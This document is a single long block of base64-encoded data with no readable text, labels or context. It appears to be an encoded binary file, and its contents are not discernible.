UP8DM34h5tZBUM/FEJpeIF4bjAe1H5g/WGzLK+xfWda1b1znCtP/jJorvZuRvhpspfi0TT/Yv3ULxc+ey9v8fofqbO3dedzPj+H0ryj8xUFRYx+8fU7zCzP+E4pPM/sNPKT5f1QHxWn/7GS0/Y/4/hZ8jvrt78aqudWz7325z8GuWsO1/ux3xff0a8/hxB9KfvrTeX0zEfSvRbX+tO8Xt/HPM/f8unH9/gVn+uyme3X+4h+KLzPLfi/mM0ucz9PmuX9+H6y+T0tn89/Phforv7U3q4fe/kX2HD9A8Y/4Pmkf2bT49qDONn9Z9+TafTLDyD1F8TtEY+YcpPq+w5E/sxyMUX9BZ51+POvgCU/6/hF8ifuGa9s6ph8yc2s4Qv/8Vlb+WUxj15zHEx/vSekZJxDVV09K5bOD+pRoJ4Nf+fOD+o4gE8Bv0PStfI/0GHvfnm4L5J+CJMfDEbvzWn58UnP9vjRvNvz7/O/gd+r4vk9fZ9P9R8wYAW3+GdVb/4ynE5xW9hdV+/wHZX42Z/yP8EfHpZI75/M7TiN+sZgfSWa05WSgOJuj4mxGCcs5/asaZb2Io/+g5OV/IJVU1Jes5OZ0N03/+PCb+GXhmTPyz8OyY+OfgORw/Sw0w1//zqP79Z67+/AuIX7W8aylr/O1FpL+rlnetY7X/L2H9L2aY5X8Zxw9Sgyqr//wXlD+JnyUWJtMr00sWr9+6uD2o/cj61yu4/frY/a9Xcf/Njg7Ei/6d2Gv8eg3Jb/AaC/9X+Cvmt7DHb/6G5d/CPv9/neIV5vz/jvm+fDyTSyqZkPFDrv41eAOXP8Mef/0HHX9tUzd2pVemu9Ib5q84PEh/SPwcv/GwRdEzijbUHv784TnwJo4fk/UHhvkf8f/+hfhWvRUCyk9/IAC8hcrf06r3tDKOf29jniRQJQWv+d87mCfrdwt0878Q8Td+3EnwLuKbOhboTZ6k//z1PYrv1Zs6epnk/zfiyfrdgtm6+V8I+evGAbxP8VNnEHzqjNmh4+8fIL572colXWvWxsOv/wH8B+tfOsesPx+i/FMpdvv5EcWzx68/pvhhZv4TxE8koeeJLP7jsfBf9GePkUDPxPD1/z/4H/p+YjqlZvW0PqrnBtTsxMD4ITn8+imVP5VA4PyBkz6Dz3D+BbUvremFsPkLEwA+p/KnEgjMX5S+gC/Q92sPX75u6Yrm9maG8fNLpL9rD1++dP6m8Lx9eLt8/jI5UIhXCcF58ZyTz7HwPMcjPtanDrb0FgujLd4d0Wv/hoAuIFAKOln9wOvXVc8/E/sn0nwaWz/H8ren/Y8gfnNvIdfHwBP/Db8hpGtpd561/9aiq6CSgxsGUwv1Ytj+R/b/R1H9b9YKeVb/s47mU2x8PVeP+FlxYj/Wkb4Tyv6Tw/8NqP56AhJw6g/X2Mg1Ir6ps6tqAs7xixsHMI7iFSaeXB4wHvGm+Cz2dxw3wV3+0OM3X0vfS1Muf/j45wRuO4/yh7f/47ntqfLnFU0bzhVS4fxfcnnEDnT5qybgpT87OspfLQFn80Hj9txOjvKz8FzjDtzOiA9Qf4/1W4BdEJ/ND3ax6H9N467crm5+MRlEw/BiI8BuNM/of6Rgd2S/cqMdjP7XxbAH4vNKckAhA3Bc8VzJdLoPdeMB9uRw/KrM5wp6CD4y/kvYy5svhuP35vb25IuheCL/Pt58ISwvY340n27u6pu/OLkoM6ysnRYmfrAvav8yvyK1cMPWVHcofiLiC8XEaJ86qIX1H8j5t/2Q/NpAs5LVm5XUYDrb5uEFOf03bgLA/h58Ph12/t3ENbn5nKKHt1+TPPiCHjb/SdwBbl5Lh7afB3CTEa9aF6Cw+A8HIj6RiGfSQ2o8/PgBcBDikxpr/PBAbgrq/wPqKPP852DsPxW0Auv+uWa6/hnt18FcC8pf7Ugwy9+KeK16+Mf7/D/iF3Qtiy+dv2lO2PYj++/aUfkt3vcMjnv/UAfX4cHPCdn/yfmdTjfvewbHPX52clO9+FRYfho3zc37nsFxrx+cANO9eJ8zOO7xewY3A/G9yWbm9j8EtX/vMLv+zMR8hj3+MQvxfRpr/LKdm03pf3O/mkknc1m1OZz/BXAoqr/+Xvbyz+Go9Yt4rtAX2v5Fotabf8vzp3SWef/NYbT9yfQyrP+R+wNiiM9oQx3xPJv973LyVdrQzc/l5lJ8nFl/ulH9ZzIjzOsv8xA/2Mbef+bj9tdY+UdgAeKzQ9VXwNzx7xdhoWP8J75P2PgPVzeZW4T4dZ1zM4mBBUtYxu/FyH/TBppzheah0PGnSN2BsAT7n/nqDegef+dzSzGfrG5A3Pyh3DLEFw5h7//LUfsV8uzrPysonn3/10rE60OZUdb1+1Wo/AafUofCxx9Xc6udfL6QS4XcfyzUA6zBfF+e8f63PWEtNf9h77/rUP0NK9lUoooE7vWrddx6lP+Iwr5+vQHlPzKgjmrpBNP+s8Nx/tqgnq+SgNf9nxtx/Q3ESesx+e+bcPyXkSfrL0fg9ncELoLip2T9/kgO3V+Y1pI49CI7DjB5xb96EJ/J9aWzkwPyd4yfRyH7Z+6cbykUrUT872+snN86GvFFvT9XSG9VyPkjoM4/yZ7nFyON+0Ac8Vb5W5K5wVYln24Nmn/Xk7fKePM9rR6zYC9e8eFJAmH4hA9P1kCDeHL+KunNN3UsCJd/yo/vDcOrnOrNG2ugwfKfAr1+vMciqJf8fW5eyedNFQiOvyhcvy/f0xrMJ7i0P98TzCe5zf58MYgnV7kP+PJNHcH593KZMfGD3KAvP2m/YL6fy46Jz3E5xC9euHoD6/iTR+PP4oXs959uQXxq4cwCa/4FDt8/uZF5/NYofgMjn+J0ime//7OI+OaixswPcZX7/6qfXvKqv2thGM9fUuz+zwiOv2vxoY64ks+HPr8IMIrGb5P3nwG7+a3cVux/q+z+97FI/rULW5j547D/peTzrP7z8dj/yo2oLSO5kbzPErzX/QUnePCJ0PyJ3IkO3n/138t/LnElms+z8SdxJ9F8goUn/tc2mk+y1v/JNJ9i5U9xys/En8ydylXen2DUH2P+p9G8wsqfTvMFVv4MmtdY+TNpPsfKn4V4cuxTa9EySnLAcGCCxj+yf/psNP45+ED/o46c/x8DXy8t4L41Jv7b3Lf9+aZg+b/FfWcMfL30He4cf35ScP7ncOeOga+XzuXOQ3zr4mwyN5jO9h1uHgEO037n4/V/RwLB+X+X+y7mHQkE8SC9Cxdg3ti4WUkizPrnhXj/AIZD5f8+XETxvYz8xdzFiDc3boaXH6Q8XELxU2cgPBHEc9J/4FK8/6OL/f7Oy7jK/XE9s9j918sR39RZ/QUA7vj7ztwVFK8w8t/jvof4pfM3Md6fP537Po7/DaczeOdc8P0tAFei+MfapW3M9f8DJP/ape3M/FUUz7r/4/vc1RTfyZz/NRQ/lZm/luKnMfLHwXUUP505/+spfgYzfwPFH8LM30jxM5n5H1K8wszfRPEJZv5mik8y87dQfIqRvwN+RPEqIz8Et1J8L7P8P0Z81+r5zPxP8PpXJtmvM57f+Cnyv1tIAurgqOH8DXUE+n8k/vczH76ndShU/PDnaPyh+J7WoeDx+zbuNj++2NYWzBe52334po4FQ8HyX8Ld4cv3BvINUpa704cnvkCw/H3cXb781BnB8q+Fuz14JZ9uSefC1D/APb58Tyj9udefD/TfayWA+/z5YjB/P3e/Lx8m/gjwwJj4B7kHffkw8UeAX4yJf4h7CPEj+cIQa/zwYWS/Rpn5R7hHEL+VkSf+46OI15nzf5T7JeITaT2ZQ8dug9avyPn9XyH/LV9IDzne/xa4/vWYg1d0lvsHz4Bfu3mm+wd/g/jhND1+0atvXuPPUfA44hM6fX+YB+/SnycQb7340FiG3D9fCJw/kbdc/xbp74Jlh6+d37009PotH/03PIn3v1TbPOkTP/kdHv/S2d5iQTFsZ2dr9fhh+f6s33vyPa1DncH2k9zf+5Q3byQQbH//wP0B248K73kE0sv+/NGTJ6NnZ6j31zztw/eG4OukX3B/8uS9j0C6+Ye5P/vwU2fMDjF+X8Y948m3DmutQ53B5f8j96x3/bcOa+Ha/zlv3kgguP2f554fQ/s3Su/BC37tP6yFaL8/cy/6tX8o/iXupTG1/zPcy/7tPxxc/89yf8Hn10z7xRC/f5J7Be//SGXMDdxKPu21l9pr/flVav8Z6/7v5dxriLde/Er2kBSTejrQ/pL7Y/7qKj/ZwaRmcvlBNQz/N3z+YGu+agG8zh+8juQfzKqDuWw66Rh/5Wr7Z/6O98+Rmzfy/QVFU20eB3Gc42+kAeANBx9n4Mn9X/9w8M2M/D8dPMIDx3+y/+tNXP9qMjekFkbLdSDL9BuAneHH2gkA//Lg4wz8W5T85PhDpQVo2r1/u3bcP7i3XXycgX+Hewfxw0omo+pxUo2O/UPe9Q8N78C7iE+k850zA/wfp//wHpa/n/3+vX/j/t+fr3qDpdf+qfdpPq8w5f8+9wHNVzN/Hvx/uP9gfktbUsuz3Z/1Ic0rOhP/EfcRXv9mtJ9k/9zHtP0li+++abj3jwF8QvO6qukM9vuv3H9p+Rl5gP8hfrhfU5OM+vcpXn9UFOb72z6j9m/mmfnP8fmlIvv+hS/w+aMRnen8Ndn/+CXOf6TIzAOPeb2flecQn9Lbkm3tLUzr/zzNayw8uX9EcPIdbLzo5A8Jzwu1D0PEwbdPZ8u/hsfn77Qi6/yvFvFdXfO7ug7foG3auKJNOXx5qPhZlKfub4yro0uY5K/jqfunCiz3t0O0nq+n8tcYz7/8GhoQ359U0gOM8edGih9h4sn7m8bR+Q+y5j+ezp+Rn8BPoPPPsMov0fkz89shfsWaxYtZ7ef2NL+a9f62HSh+TRdr/jtS/NpVrPnvRPFs98+R/Hem+WVs8cdd+F34yp9qsa19ZISt/Xbl8fyvqE1hbP/dHLz5Dppw9w/XNLzI7e7gm/xgD/shRAH2cPEJBn5Pfk8Hb76DJvz9yXu5+Kmds0PufxTq9+b3pni1yFr/+zh4tvrfg5cdPEv9i9GTYV8Xn2A4/9jGTXTwLPUvNlzK7efiWeofYH/M948wn79q4tH9E4z3d5P1g0mYz7LfX3gAxbOfH5/M4/sb9cKo5u8CuN+/08AfyOP7G/XCaJHt/vSDnLzCdn/6FCefZuMPxnyS3X9vxvWXJBe4sOXfgv3HLOv7K0a4VsznW/LVbtD1mn+30bzGwpP5VzvNJ1nz73DkrzDl38F3OvhkerCFZf48leaVYiod+v5RqJvKT3PKn04x5D+Nn471T2ffvz4D6d/mr/H+kEMQP1BMqEpqUN5sLULKjgCU+/4jgJnI/0jkcrqmF5R8s3mST6YDcB7vz9ufn+XFWwcBHa8/dK1fRccDzPbi42HzBzgU8Vb54+VziGHuf56D+K5O9vMX30D1n8trjPOvg/jDsP70Kx3Tpp/AZH9jvOP8JeP9+1286ceW6y+Zy/am+5qLYd4fBONm8XNR/pjXVPdWdq/9v90ofzP+2kziX6HOT4iNL8M8lP+QUszodPw08P6++aj9+4e0Ftb+twC1f/9QgplfSPEFZn4R4tdnNVXJyEvVUTmU/0XWHxaj8hcNPu5Y/4eq6/9LXLzj/YGy//sDyf0vS3H/27BiLev9GctQ+yvpITU71M40fi/H9t/35ij/+l+B6j81oCqs/ErMa9UF8Jq/rsLy5zTG9zfvCqtx/s4NGCHqfw3OP6EX2eKPT3FraV5jy38tvw7xg1tZ76/5O7eex+fvEnFN8b8BxX1/F8AGlH+WXCDDGP87HPP5Pmb/fyNfiZ/ntaSSUeP54ZDyk/dvbsLzJ5PXB7Lh5m/k/b9HuPmcnxftXj8DOBLbb7Uwq725P53VZ4XKn7z/sYfme6wEemaFyF8YB3AUzTd1dpkJNHV2Bey/+RL4CQBHO3mlzCuBfOOEa7i4o/ydjOU/xln+TrbyK67ydzKUP84nXOXvDF1+fkKST2L/h7w6pcoNdu7+93tIUTz7/VUqnv8l8vGhNrb5b68j/1yVKaRb/l6+D/eflmreo5f9iPH9PF7/Yn9/VhrHHxSd0f+9HTZjnvn+uiO4AcR3L1hV9QUe7vjZAJ/B9Z9hn38N4vbPtBRbGMffLJ0/8/sDcyj/3nRfim38OAjyKP/edF+OdfzZ4uALjOv/BZpnXv/SHHyBcf1Fp/ic98SlCl/kqfcfNWeV9tD7P8n9b0MuvoOBr4FhF9/JwB/Gjzh4tcgm/6iDV/Js/FYe73/Nxqu5QF7x/2MdPIv9rK1v5Y9z8MOM8bvjcf8dqG6A3fqT5k/A/pueZR5/TsT2p/r1rR7vfz6IK2H/V+tntn8nofzb2uYx89uQ/zmtS80fMp1t/nUyFf9I5/O58PtfyP3Vp+D183XrmM+PnorKrzO///oyOI2n3r/DWH8n8qcTfscy35Vm1Z8zMD9Mvb4gFH8mzS9h5c+i+LalrPzZiO9aOL957fzuNfPXNRvvwQiKHzVIV3LfRPGDZvIzd/7CxSvk+Su612wK4gWphfuWJ9/U0TZ/RXcQT+4v+rYnPyVU/uT80XcQv8o8f9FMVhF6c4XBYP7bcM6Y+HP5c8fAk/3j540p//P4873bL3T86rt+7Rdq/nkOf4F3+4We/16IeFi4eF33mk2r1i2dvymM/Yo0buAuQvzk9vZZ+UodBs6f6icAXEzzPdUS8Hr/5SU039TZVUkguP8cw1/q5BUW/jL+Msx3kPLndDWpk43MhSC+UXqTu5zme3ACQfw46Qr+Cpo3yl9OIIjnJIDvOXklPC9Il/PfR/xSdXSWPDl8/RH7cyXN9+AEgst/Cf8Dmm/q7KokEFz+Ilzl5JXwPC8dD1d7lD9s/ZH9b9d4ld9KIDh/gGs9y28mEMxfw1/nWf5wPCddzV+P+C/e/uLtoPGT9v8AbkD8k08++SQrfyPiJw7ooxMZ578/RHwPScD/9WGe+69vQrzw3FWX9n269DaW9d+bHbzKxN/C30KtX+iFoqarKTmZGxxUs8H2B+BHY+DJ+xdvHVP+t/I/HhP/E/4n3uPvyrya3RDER6QL+J/6jb8r8yHs13f4n3mPv6Hyj0oX8T9HPM8JbdsY4w+3OfgSI3874petbdOXrW3vXrM+tWRdOsD/+BJAHA9wB5U/tI2rqTvotEWnfTyO47hg/+nf3J0Ofoea2oNOW/TkHJ4Lzr92/F38XQ4+UiNMUfPh5t819QB30zy/jeMgbP8Tor/h7nHyPAsPcC/2P4vr1m1qXk+Wnpeqo80Lwvg/9yFeyfTlCmm9f1DuH1SSzaH8r/s9+YmeCXidv3vAk+8xEgj2vx/kH/TkFy3v6g6Wv3ECwC8QP2eOrKY6pk1rnznU3qypgfmT9fuHsP03Xhxi/ktSCsM/jPk5PZQEYeZPjyC+qXNeU+e8SgrB+T/KP0rxqSZT8rD8L/lfIt58cYj5b5jyE/l/RfHT22cb/5gyBNtfgMfc86+lHlMHn/X7x7lfU7yq9SsFNeWTgnP+wjcC/AbxzvsHguZPNQ338o8jfjhdUPuKSiEVN1MK03+fwPunR/SC0q8qKbVA7z+ocv7xt7j/mK9+m8zifzyJ8yfhu8nh44dQcxL/O1x/6aXqKBP/Gvd7iidVP5nJ/3sK8cbx2yoiOPdvCHWj8AcnX0UE9/t36uGPiM+qw/KqeStD1z95f9HTiB8c1bZk0vFkLptVkx4N4fX+sD858jfTmBxKf8UGgD8jvqVP1bvNzNO5bHD+kQkAz+D2GzVyb/ErgJf+P4v45aNrVy9LJULznPRn/jnEr1D14VxhoLugGq/hVYJ5gOdx+/cbb09MzQqpP+T9BS948D2zwurP7/gXPXivtWvwub//JU9eCcXXNgC87NQ/pvnT8/xfEK9phgAM/fdD7hUsf7GQkRn911ex/e1TdRae7P95DfGpXHJALcjGaxjCjB/RxqO5v2L9z6UGlWx4nrz/6W94/56aGZSZ6r8Ar1PzD7b3l4r1L/F/d/MplvWzN1w8PoFfvfxk3eUfuP4UTZvF2P7/pPLX/V9e6jN/f5PijdW7juaEqhTUQqD9qyHn/yneXAELW38QPZZ/i+LNN3j4JeP1/vG3KZ68v8nPe3HbL7EO4B0n7497zF+e4t+lefMGDJ9mcIpfMx7gPZov6v3+jeh1fvzfiJ/V2sq8/vc+5ntae1qZ9O947gPK/+5q6ljQ5L44xtf/uJP7D8UrTR29TR29IXly/8eHeP4RUAFe64cfUeXvae2pUgPu9c8LuY8p3rg2x/vyHM/3Lz7NfeLie81/Q/B14/bl/4v47vVrlq1ctY7p/XH/c9gffOlN8PvX3+A/5dH9Yw7rF3T/CHl/wWeIjztHzxDvH/oc8c3M/Bf8F4hPOPjg9x99yX+J+AwjD5GPeNIH7fpj5gE4xBeY5QeBR3w9Y/2R/AXE130NXkS8zNx+ghBBfAszXyPUIH4iM18r1CL+gK9R/ijiJzPnHxXqqPZzXFkVeH8fQD1V/+x8A+JbvwbfSNU/Oz+Oqj92fryA7QcrP5efgPuvw3WUQ+QvId7p9gTdH87V/J7fDvFO7yWYf4/fnubjjvsrofr9lX/gd6D5Zhaeq13E7UjzMlv+ADu56k9mOv+ys+C8f5KN38XFs5y/eZrf1cWHP38j1v2R383FNzPk3wi7Y55s3UMNIDsawO3/ng17OHjW+0/3RLyaTRZG8yT2YkohUwcI3f5z3XiAvTx5UwrH8UWX/xQdB7A31p90Xzad7WO4fxVgH8QPKpquFtjOX8kunu381b6IT5YDP5lw/pdQfx03EfPG7ItF/tNhP1x/eq6g9IW/v5bEX/ZH/OZhPc5mPwCaKPuRj7Paj0k0z2g/d4cDEB/Tk/nJjPP3yULl71gxmx5hiB+T+ycORHwinU3lh+XQ8xfj/L+Lr2OY/wBMQXwmpeTjKbWXHOOMK8XA+D/Zv3Ew4gu5nM4qf7OLZ5H/YKEF8YNKsj+dVeXw8QuAVsTb4Sf5ALoD+sQfhYbP+DZPfmJIvl1o9+StTRz+vJGA0NghdCA+mcsOqQVdz5EATLGgOs5vy177lzrHwJP9h1PHlP9UYRouv6YX0tm+cu27OrBX/Hq6Bz+RgZ/hwdtbaPx4tP5+COLThvXuTaspOTEqH0CPfz7rvzN9+Ykh+Hu5Wb58z8QA3tg/M1twxA+I+hnSA9C09/m1QxEvM/efTmGOJz/HTKGK/pv5f0P4hidvroEjniQhu8u/FQ7z5ufQFeAd/xPGHybEPHmyjH0AxXu1X92EE6FrDHz9hOu5uZ48WQNPzaZ52WP/wmN8tw9PFsGrl5/wm2Geh/7MAc/m93j/eZcw34O3Wg/pn1kBbv/xDm6BFz8nIH87frVAWOjBN3WmHLy3/xNt6BYWjYlfLCz24K3Wo3gZvMo/T1jiyU9vn121/JXzv0sxP2w3nd/813V+YBnNl5uu4r9BufRe/m9MWO7g5wTkT8dfthNW0HxTZ8rBV31/1xJh5Zj4VcIqmi83HeblavHv1U7ebDr/8lP7H9YIa7zsd2j9XySs9eK9zaeH/VkorPPk5wTkXz4/vU5Y78VbreAwfx7vb10tbBgTf7hwuBfvbT4977/Z6M0brVi1/xnvj5grbEL8oUoqRaIXcyaGW/8k968dgfl8IZdXC/qonFUGVXcq7v0Lb3NHYr51QB39Bsv+F4AexLem1KFWPZlvDb1+BHAU4ntIAj0kBe9FHK/zZ0dj3kzATMEjCff65yd8XKD3z3UsIEkYvwTOf8j7S45BfJMBN3Us0JN5r1U0t//2Ia9QfK/B9xp8byDfMOEBPiFQ+986FsxOqUPmL4Hy10mz+STFT51h4lNnzNaT+WD9uYdLOdu/mGJqf9Xd/sVU6PaPC71e7U9SCNH+jROOEfr82z/w/VPk/EO/V/sXU6Hav3ZCWkh7tb/Bh2n/pLDZv/0D5eelD2DAr/2LqRDtrwoZxKtyayKdbfU9Bev2/wAGKb6HJNDjl4LX/RtZmjcT8EnB6f/w4/qFHM0bDU+SIL8E7//8L5+n+CYDbupYECp/YVyzsMXB9xp8b0j5E0KB4s2GT6Szxi/B+psRNAc/dYaJT50xO3D/LydtEnR3+yeU0O2XFYpe7e+Tgrv+hoQh7/b3TMGpvsKEnDA8hvavkQrCiHf7h8q/bsKoMOrd/iHl3ypsHUP7k/3Lx/q3fyJYfzZyx+H4D3P/HxaOp3jW/j8inEDzTP1fGHeicCLNM7b/sUKJ4ln7/0nCSQ6epf9Hx2nCNopna39Bups72cGz9P96aVA4xd3+DP3/BOFUr/YP2f9rx5WE07zbP1T/iU7IC6ePqf23CWd4t3+o/PkJJwtnerd/SPnPEs4aQ/uLki6c7d/+iWD7cbzwTRw/alblaldgeM0fvuXgfZXHM37/beHbFJ9k5AG+I1D7H/ub1RE1yeC/nOMe/3wlcM+/TxPO9Rr/fFJwn/84XTjPe/zzTMF9/+sZwvljGv/OFL7rPf6Fyl8Yf4Fwgff4F5K/ULhwTP7PN4WL/Mc/JVj/vyVcTOlPFeXx0f9L8PrVQG+6Nxd+/Yzs/72U4rO5lMyW/2WIb+lNZ9RsbvKBIfWfrF9fjvhcXs1OXrtu3uIVB4ey/2T9+ArE92q55ICRSLj+I9YDfA+334ianOW//cpz/+H3HTw+++DJU+vHVwpXOnh8dkF2BBC91j9/MCb+KuEqxGdVvYVUoaprLXoyn6ysvJn/e63fXo34dd2r1hp4S7j6J/dvXoN4La8MZydPtJzAiSHiLz/jrnXzvk6g2/4AXOfBl41gcP//rnC9B182gkF8g3SRcIObt41gEB+VbhRu9OItIxjE10pnCz9087YRDI7/XCzc5MVbRjBY/le4m118T1kBQrz/+zrhFhd/gIUfEEJ/1sGP3Hxo/amVzhdu9eDD6k9U+rHwYw8+rP7US1uEn7j50PozTrpJ+KkXH1J/SP/5mZsPrT9k/fjnXnxo/blFuM3Hfnj5cV7n3273tR8JJbj9fyLcMQb7QervzjHZjx8Kd43BftRKPxPuHoP9iEp3C/eMyX7cLNw7BvtRK50q3OdnPxJKiPPnPxLu97EfYfSnRrpVeMDXfoTRnzuFB8dkP34h/GIM9qNBuld4aAz2o0b6ufDwGOxHrXSP8MgY7EdUOkV4dAz2o166RPilW/+8XA8f/+UO4Vce+qf1e1+i4z7/+JjwmFt+r6HLZ/+QzP0a8fvHF85fx7j/8DcUv2rl2nVs+w8fp/g181evn++bhNf5uycovnvlyqWL54edf5Pz47/F/u+Qkpnct5Vp/vOkk9f0QryQ09s7g89/N064B37n5BOKpk6fGk+pyVyw/Wvmfo/3fxoJsM2/nnLkL1epAHf84nfCH/D+SXVLUdV0cgx+lVJQBoP7/2bhjx58WlcHjwx4f035/S1Pe/Dk7sEwfP04gD958FuKamFU0wv07kH3/IXc3/FnN3/kxOr716n9f8948D0TA3i0/+9ZD/mVQp8Wxn7UNgI851N/YfiaRoDnPfghJVNUteD4Se14gBc8eD8r5N6/9LjwogfvZ4Xc+y8AXsL2Uy8oenFwip7Me54E9Tp/+7IP73UU1u0//4f/ix/f0xo4fyHrJ6/48cW2tmD+VeFVN2++gjDE+nut9GvhNe/8PY/Suu+/eE34q5tvMjL3uMTBbT/u4v7mxScMXgnmXxded/PmKwxDlD8q/VL4uxc/tZPgs4Lt95Hwhkf9aVomlP5Fxv9N+IcPH07/XhH+6ceH0r9/Cm/68SH0j8xf/uWnf5qWCa6///FveecfUv/+JbztqX+algmhf7XSRP4dT/0z+ED9I/PXd/30L0T5o9Ibwns++kfaIFj++4V/e/XfjBbS/v1FeN+HD6N/Eekd4QM/PpT+/Uf4jx8fyv59KHzoa/8yWrD+vS185J1/SP37SPjY2/5ltFD6967wibf9I3yI+eN/hf/62r/g8tdIee5/fvYvo80K1t9T4VM33+E3AHvdH/KZHx9Cf0j/+9yXDxN/+Vz4wpcvtoXJ/0sPvjwAB8+/zzLuoPDK30sB3fl/zHMefHkADrP/jPfkEyF5QRQ8+PIAHKy/AKInbw7AwXxEjLj5KcVUPuT4+4lQ48OHsX9k/Kv140PZv1ox6seHGn+jYp3oY/9C7L+rkz4W6r3zD2n/6sQG0cv+kQ2IYezf/4RGLz5h8Eqw/QEYJ/rYvxDlr5E+FcaL3vaPtEFw/f1DmID4fC6XaRlMZ9WRwUJLMhc4fxakFkFC/MhgwUhCLYaL/0A9wHZY/mI+nyvoPrl7zd+2F7dHfFbJ5gwBcoW+sPOvHRDfQcpe0Lwz97n/f0fED+ayaiGXS6pKtkXTC4H3D9dLh8JOiO9XtH7jHaIt+UIu1P5HgJ0Rn+w0Ss8UP9oFy0+K36foqk8NuO//GSfsivhilqSgJDJquPaD8f+F3XD51UKuWhM4eW78abC7q/5JLYbjyfn7PRA/QE7fqyMtWfMewkD7Qe7v2hPxE1O5LLl3PqMOqZmJ4eIPeyG+h0qgJ/D8Aln/2VvE+y8wH6b+AfZB/Mbla9J9rSzxux1E2ckz3D8FtfuK+7p4/wTc8b+J4kQX73d7ldf+iwZxPyfvf/2Xx/15jwr7u/lelvhvk5M3Vw9CyS82pGGSm586Y3ZY+7ufeICTl5sY2m+yOBnx61dt3BcC4vfUB+I7/IG4/zmurgu+f+Zb/EEiAGe9/4jc3wEB+1/w35y4OzcF846334a5/+ZgxMedLzAMyJ/4zs2IJ/dfsMhP+BbEOy+uDL4/6298Ky5/Jp1QEvT+m2r3T5D9O200P1rMOvKven4QoJ3mk5lcMeXIX/bvfwAdmC/fP2NdRCQ7XgDvtN/ihN2FThdPruAw3wOKrv/wjL9HpN2EqWLl/oycpsXxHUiV2L3f/seF3DSUv6ZqGrk8huX98dPdvH3/ouP6GI/4+W7iDIpPFgtpfbQsgOwQwL3/EOAQD94hv+/9NeT87Uys/+b9LXYVUssfnvu/txdmufhKCwSVv7ZxtjjbxTcz5H+oeCji+yntDdZ/sv44B/OqvjWL7i0Nc//QNzBfVIZV1IWC7h/nGgAOc/FxOwGH+nms/8bEGOaHKfUHh/p7nv/tcuUfvv64mi5xLuLTiUEm+0H2P3fTfBwnQBXeR/55iE9kiupgeiR0+5H7Z+bT+Tez5E/2Xy9wyI/HsOD7h+aLCzGfpHBw4J7rt4sQP6zoWo7B/hN+Me5/OS2O3zuB107B5/0bS5ztl9MYyr9IXErn38ySP9GfZQ752ez/dHE5Hr/T2VxKZdF/gBXY/iaHGfOfK66keCWjDiuj4cffOm4VnX8zS/5c/S/41YjX1WxSzeoM/sdyWIP4LYz2V6jpFNd6tp99fxtUv79tf2GdW36H/fQff+oa14nrsf+RylEuZJj7vzY4eHz5crD9+gQOR3xKHcrlNbbxayNu/1FNVwfjphul5wYc2xdkd/xqL24T8p+yOXJ7T1IhN+D1FxOB/lvjhLvgCJQ/5uP9xQQFe+Q/TjpSPNKHbw7F94g9uP63FgtqnGzgV9IV/1uuMn4CHOXkK3iI8fto8Wgn38ySf1yMu+VX0tT8oZr+HCMe4+KTub5sWk8PqeBofo/3XyiiQvW/Mknbn2rjbwLrX15Vk/3h7/+rqW8Ski757eIDdfmTj/1PuXhNVQrJ/jD1D42qqLp5oxTh2i8h9rp4vaBktYyi5wqO+pfd8aM+sQ/xpua0GMmQCBrl/3neX9Yv9lP+c66Y6s0ohZD3Z5P7O9KY72X3PzbTPHX3vMP8eb4/Z4DmU1ktfP5k/M0gvlfR9Mwom/8zSPn/hdxAkWX8upHLYvul6pl07yjD+Hk2n3PETxzjR0D/O1jMI76gpDPIfQgVP9iC+CG1kMRxyzD+T4Gy38OM4x+Ahv33tJ4okvM/IctP9n/qWH/ShWRGTaZZ5h9FFx93zN/951/k/QlDLr45NE/2zw2780+mwWE/q+wfHKHsN9k1OsQ0/xml+CG1oGTshf+g+oe6reJWrH9qnnKAZIcCuP3fU/ljsf9TyGVR9YOj+jzf33Wciy/kkyHHT3J+8Hgnn0yHrj9yf+wJrvyV1GA6nPxk/epEbL9yhT51c46p/UqO9k+olbW3IP0n7284CfF9aZ24fQz27yhxG+b742YIJ2T8AeoW8CcjfrOaHUhntdDlJ+tnp2D/v6AMpTUW+/Un7lTn+KkNpstR7ODxc4Z4Gi5/QUll1JZ8MZFJk9MftP/ttX8A4HQXHw/Nk/WrM6jxaySO72BHwVNP/atp2FE408HnB8Ex/6k+/zgL2//8IKP934M728Ebd4hX4p9QLf7Jjf+m+E2ad/gfwfb/W3j81TR1MJEZLXugQe1P7t/+tgcfd8wfoMr939/BvJJmih8Jtcfx5+DxU9FUHb36J0z/OZfSf6WQ7lVCj58k/nMeZX/61YLK5n+dT/GU+oJDfT3q/yzxu9T8Wc33oXMHYezfBZjvY83/AvFCxKsjCmP8L8ZdRPPNbPwZ3MWIH0yTHSgZpvHjEjz/yGSUQYUt/nAp4vPprJrMZVWW+r+M8h90NZNhy/9yav2jkHfUX6D/e4WDxw0Y9P4CIv/3HDx+7VkY+b+Px69cn6r3q4WyDLLjAnz3+/POFa/04MPaL6hfIv7AM/9w9gsarhKvovz3vsFcqjKDCGN/r8bjX4Y1fs7z1yB+K7P9/IF4LTV/TKqJXG4gvP07gL8O84m4ks+zzZ+vp3mm9Ruou0G8geaZ/C8y/7oRx++zmq4gAxpm/vVDvP7Qr+gaqoEw7X8Tth/k5Q9m9NIxf/DWP3L/3s20/5TvRxoQ5P8Lddtxt9DxfzWe7FeyWVOHae/L6/6b48Uf4fHLRK0ixHX6/JjX/d+vcrei+KvFO+K3/vEjcv/9jxFvyM9Qf2LDEeJP6PIPqKl0lsV+/xSPP0o601fMMow/9eLPMN/HHn/6uSP/zarO4P/8A27D/Gb2/G+n8td1tTCY0/Rw9remnhPvwLyqaUqfmkgXwq0fk/njnbj/5DR9UCkMsLTfXdj+D6dJARjWv9vFu7H9d7z2M4z/dw/l/2W14qBaiDv2j4BP/Lp2AsC97v0jxhyApBEUPxWlH4v34f5n5V82wo7lD4/1pzni/Th+lssqfYz+7wN4/FKzKVUbYPLfH6TG36ySTapM+xd+QdV/OptA754Noz8PYf0z3//eHP79R1fxD2P9z6qDuWw6WfbAg/2flPgI5f/nM7nRyhuUgvlHxUep9fNMRmV6f9F68ZfYfyfOk5ZUsgzj569w+2lJRIdr/8eo/p8Z7ctl7TSC7AeJn/0a959CIo0FCNP+v6H8h95igWH+QOLHjyN+oKBQb64N03+eoPyH0bzCNH9YIP6Wip9vzRXy4dffuejfhSex/7+lqLDOf3+H6z9dSJAqCJs/2b/6e6w/xT4tq/QxxS+fwv1H0ZVUro9p/vgHzKfYx88/UnwzM/+0M38m//tp8U/O/Jn4P4l/xv0/o2h6Osk0/3wG8xpb/fE114nP4vhdLquOJnODiZD2p6bur8Jz9P7VVFZh09/nab6PZf2N7D99gea3pnNs/IsOviVNx8+hav3fx7/k4OMMPBk/X6bWb7U+NZtWw9sPgL/g+Qu